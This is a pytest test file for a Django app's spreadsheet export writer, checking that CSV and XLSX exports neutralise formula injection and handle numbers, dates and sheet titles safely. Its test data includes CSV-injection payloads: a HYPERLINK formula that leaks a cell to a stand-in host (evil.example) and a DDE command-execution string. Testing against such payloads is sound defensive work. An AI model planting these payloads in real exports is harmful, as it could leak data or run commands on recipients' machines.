"""The one export writer: no text becomes a formula, numbers and dates stay what they are, any sheet
title works, and nothing else in Kapabel writes spreadsheets."""

from __future__ import annotations

import ast
import csv
import datetime
import decimal
import io
from pathlib import Path

import openpyxl
import pytest
from django.utils import translation

from kapabel.core import exports

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Klik her")'
DANGEROUS = [HYPERLINK, "=1+1", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
HARMLESS = ["Anne Jensen", "Børn og Unge/Løn", "1001", "#N/A", " =not at the start", "'already quoted"]


def _sheet(rows, title="Ark", kinds=None):
    kinds = kinds or ["text"] * len(rows[0])
    return exports.Sheet(
        title=title, columns=[exports.Column(f"c{i}", kind) for i, kind in enumerate(kinds)], rows=rows
    )


def _read_xlsx(content: bytes):
    return openpyxl.load_workbook(io.BytesIO(content))


def _read_csv(content: bytes, delimiter: str = ";") -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter))


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_formula_start_is_neutralised_in_xlsx(value):
    sheet = _read_xlsx(exports.xlsx_bytes([_sheet([[value]])])).active
    cell = sheet["A2"]
    assert cell.data_type == "s"
    assert cell.value.startswith("'")
    assert cell.value == "'" + value.replace("\r", "\n")  # XML reads a carriage return as a newline


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_formula_start_is_neutralised_in_csv(value):
    with translation.override("da"):
        rows = _read_csv(exports.csv_bytes(_sheet([[value]])))
    assert rows[1] == ["'" + value]


@pytest.mark.parametrize("value", HARMLESS)
def test_other_text_is_written_as_it_is_and_as_text(value):
    sheet = _read_xlsx(exports.xlsx_bytes([_sheet([[value]])])).active
    assert sheet["A2"].value == value and sheet["A2"].data_type == "s"
    with translation.override("da"):
        assert _read_csv(exports.csv_bytes(_sheet([[value]])))[1] == [value]


def test_headers_are_neutralised_too():
    """A header may carry a competence name, which users type."""
    sheet = exports.Sheet(title="Ark", columns=[exports.Column("=1+1: mean gap", "dec2")], rows=[[0.5]])
    assert _read_xlsx(exports.xlsx_bytes([sheet])).active["A1"].value == "'=1+1: mean gap"
    with translation.override("da"):
        assert _read_csv(exports.csv_bytes(sheet))[0] == ["'=1+1: mean gap"]


def test_numbers_and_dates_stay_numbers_and_dates():
    row = [-2, -0.25, decimal.Decimal("37.50"), 0.5, datetime.date(2026, 3, 1), None, True]
    kinds = ["int", "dec2", "dec", "pct", "date", "int", "text"]
    sheet = _read_xlsx(exports.xlsx_bytes([_sheet([row], kinds=kinds)])).active
    cells = sheet[2]
    assert [c.data_type for c in cells[:4]] == ["n"] * 4
    assert cells[0].value == -2 and cells[1].value == -0.25 and cells[2].value == 37.5
    assert cells[3].value == 0.5 and cells[3].number_format == "0%"
    assert cells[4].value == datetime.datetime(2026, 3, 1) and cells[4].is_date  # noqa: DTZ001 - XLSX cells hold naive local times
    assert cells[5].value is None and cells[6].value is True
    with translation.override("da"):
        danish = _read_csv(exports.csv_bytes(_sheet([row], kinds=kinds)))[1]
    assert danish == ["-2", "-0,25", "37,50", "0,5000", "2026-03-01", "", "True"]  # no quote on numbers
    with translation.override("en"):
        english = _read_csv(exports.csv_bytes(_sheet([row], kinds=kinds)), delimiter=",")[1]
    assert english == ["-2", "-0.25", "37.50", "0.5000", "2026-03-01", "", "True"]


def test_aware_datetimes_are_written_as_local_time():
    moment = datetime.datetime(2026, 6, 1, 10, 0, tzinfo=datetime.UTC)
    cell = _read_xlsx(exports.xlsx_bytes([_sheet([[moment]], kinds=["date"])])).active["A2"]
    assert cell.value == datetime.datetime(2026, 6, 1, 12, 0)  # noqa: DTZ001 - XLSX holds naive local time (summer)


def test_control_characters_do_not_break_the_workbook():
    cell = _read_xlsx(exports.xlsx_bytes([_sheet([["Anne\x00\x07 Jensen"]])])).active["A2"]
    assert cell.value == "Anne Jensen"


@pytest.mark.parametrize(
    "titles, expected",
    [
        (["A\\B/C?D*E[F]G:H"], ["A_B_C_D_E_F_G_H"]),
        (["x" * 40], ["x" * 31]),
        (["", "'quoted'"], ["Sheet1", "quoted"]),
        (["Team", "team", "TEAM"], ["Team", "team (2)", "TEAM (3)"]),
        (["y" * 31, "y" * 31], ["y" * 31, "y" * 27 + " (2)"]),
        ([HYPERLINK], ['=HYPERLINK("http___evil.example']),
    ],
)
def test_sheet_titles_are_made_safe(titles, expected):
    assert exports.safe_sheet_titles(titles) == expected
    sheets = [_sheet([[1]], title=title) for title in titles]
    assert _read_xlsx(exports.xlsx_bytes(sheets)).sheetnames == expected


def test_response_is_a_download_nobody_keeps():
    with translation.override("da"):
        csv_response = exports.response([_sheet([["x"]])], filename="gaps", fmt="csv")
    assert csv_response["Content-Type"] == "text/csv; charset=utf-8"
    assert csv_response["Content-Disposition"] == 'attachment; filename="gaps.csv"'
    assert csv_response["Cache-Control"] == "no-store"
    xlsx_response = exports.response([_sheet([["x"]]), _sheet([["y"]])], filename="Løn", fmt="xlsx")
    assert xlsx_response["Content-Type"] == exports.XLSX_CONTENT_TYPE
    assert xlsx_response["Content-Disposition"].startswith("attachment; filename*=utf-8''L%C3%B8n.xlsx")
    assert xlsx_response["Cache-Control"] == "no-store"
    assert _read_xlsx(xlsx_response.content).sheetnames == ["Ark", "Ark (2)"]
    with pytest.raises(ValueError):
        exports.response([_sheet([["x"]]), _sheet([["y"]])], filename="two", fmt="csv")


def test_raw_csv_for_programs_keeps_text_exactly():
    """The Moodle format is read by Moodle, which keeps a guard quote as part of the text."""
    text = exports.csv_text([["-2 levels", "=x"]], lineterminator="\n", neutralise_formulas=False)
    assert text == "-2 levels,=x\n"


# --- nothing else writes spreadsheets ---------------------------------------------------------

SRC = Path(exports.__file__).resolve().parents[1]
WRITER = Path(exports.__file__).resolve()
# Reading spreadsheets is fine; these modules may import the named openpyxl reader functions.
OPENPYXL_READERS = {"organisation/hr_import/": {"load_workbook"}}
CSV_WRITERS = {"writer", "DictWriter"}


def _spreadsheet_writing(relative: str, source: str) -> list[str]:
    allowed = set().union(
        *(names for prefix, names in OPENPYXL_READERS.items() if relative.startswith(prefix))
    )
    found = []
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Import):
            found += [f"import {a.name}" for a in node.names if a.name.split(".")[0] == "openpyxl"]
        elif isinstance(node, ast.ImportFrom) and node.module:
            if node.module.split(".")[0] == "openpyxl":
                found += [f"from {node.module} import {a.name}" for a in node.names if a.name not in allowed]
            elif node.module == "csv":
                found += [f"from csv import {a.name}" for a in node.names if a.name in CSV_WRITERS]
        elif (
            isinstance(node, ast.Attribute)
            and node.attr in CSV_WRITERS
            and isinstance(node.value, ast.Name)
            and node.value.id == "csv"
        ):
            found.append(f"csv.{node.attr}")
    return [f"{relative}:{item}" for item in found]


def test_spreadsheets_are_written_only_by_core_exports():
    offenders = [
        item
        for path in sorted(SRC.rglob("*.py"))
        if path != WRITER and "migrations" not in path.parts
        for item in _spreadsheet_writing(path.relative_to(SRC).as_posix(), path.read_text(encoding="utf-8"))
    ]
    assert offenders == [], "Write XLSX/CSV through kapabel.core.exports: " + ", ".join(offenders)


def test_the_writing_check_finds_writers():
    """The check above would see a writer (it is not vacuously green), and lets readers be."""
    sample = "import csv\nfrom openpyxl import Workbook\nw = csv.writer(None)\nr = csv.reader([])\n"
    assert _spreadsheet_writing("organisation/hr_import/x.py", "from openpyxl import load_workbook") == []
    assert _spreadsheet_writing("core/_probe.py", sample) == [
        "core/_probe.py:from openpyxl import Workbook",
        "core/_probe.py:csv.writer",
    ]
